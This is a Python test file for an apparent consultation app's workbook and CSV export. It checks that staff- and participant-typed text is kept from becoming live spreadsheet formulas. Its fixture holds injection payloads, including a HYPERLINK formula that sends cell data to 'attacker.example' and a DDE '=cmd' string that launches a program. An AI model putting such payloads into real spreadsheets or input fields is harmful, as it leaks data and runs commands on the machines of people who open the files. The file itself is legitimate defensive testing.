"""Text staff or participants typed never becomes a live formula in the workbook or the CSV.

Sector names, item prompts, option labels, section, round and event titles are typed by staff
(or imported from a spreadsheet); organisations, comments and text answers by participants.
A spreadsheet reads ``=`` (and, in a CSV, ``+``, ``-``, ``@``, tab, CR) at the start of a
cell as a formula: ``=HYPERLINK(...)`` in a header ran on the analyst's machine.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from consult.agenda.models import ItemKind
from consult.extensions import db
from consult.results.export import neutralise
from consult.results.queries import Filters
from consult.results.workbook import write_workbook
from consult.voting.models import ResponseChoice
from tests.conftest import login

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the figures")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(app, make):
    """An event whose every staff-typed label, and every participant-typed text, is a formula."""
    event = make.event(title_en="=1+2", title_km="=1+2")
    first, second, third = event.sectors[:3]
    first.label_en = first.label_km = HYPERLINK
    second.label_en = second.label_km = "+1"
    third.label_en = third.label_km = "@SUM(A1:A9)"
    section = make.section(event, title_en="-2+3", title_km="-2+3")
    round_ = make.round(event, title_en="=ROUND(1)", title_km="=ROUND(1)")
    agreement = make.item(event, section, round_, prompt_en="=1+1", prompt_km="=1+1")
    choice = make.item(event, section, round_, kind=ItemKind.choice,
                       options=[("a", "=2+2", "=2+2"), ("b", "+B", "+B")],
                       prompt_en="+choice", prompt_km="+choice")
    text = make.item(event, section, round_, kind=ItemKind.text, prompt_en="@text",
                     prompt_km="@text")
    round_.open()
    for n, sector in enumerate((first, second, third) * 2):
        person = make.participant(event, sector=sector, organisation="=ORG()")
        make.response(person, agreement, value=4 + n % 2, comment="=cmd|' /C calc'!A0")
        picked = make.response(person, choice, value=None)
        db.session.add(ResponseChoice(response_id=picked.id, option_id=choice.options[n % 2].id))
        make.response(person, text, value=None, text_value="-text answer")
    db.session.commit()
    return event


def _workbook(app, event, lang):
    out = io.BytesIO()
    with app.test_request_context():
        write_workbook(event, Filters(event_id=event.id), lang, out)
    out.seek(0)
    return load_workbook(out)


@pytest.mark.parametrize("lang", ["en", "km", "both"])
def test_no_cell_of_the_workbook_is_a_formula(app, hostile, lang):
    wb = _workbook(app, hostile, lang)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    # The labels did reach the workbook, as text: in the By-sector header among others.
    by_sector = [c.value for c in next(wb.worksheets[3].iter_rows(max_row=1))]
    assert any(str(v).startswith(HYPERLINK) for v in by_sector)
    assert any(str(v).startswith("+1") for v in by_sector)
    assert "=ORG()" in seen and "=cmd|' /C calc'!A0" in seen and "=ROUND(1)" in seen


def test_no_field_of_the_csv_starts_a_formula(client, hostile, make):
    user = make.user("analyst")
    db.session.commit()
    login(client, user)
    body = client.get(f"/staff/events/{hostile.id}/export.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    header, data = rows[0], rows[1:]
    assert len(data) == 18
    for row in data:
        for name, field in zip(header, row, strict=True):
            assert not field.startswith(FORMULA_START), f"{name}: {field!r}"
    sectors = {row[header.index("sector")] for row in data}
    assert sectors == {"'" + HYPERLINK, "'+1", "'@SUM(A1:A9)"}
    assert {row[header.index("organisation")] for row in data} == {"'=ORG()"}


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+1") == "'+1"
    assert neutralise("-1") == "'-1"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("Government") == "Government"
    assert neutralise("") == "" and neutralise(None) == ""
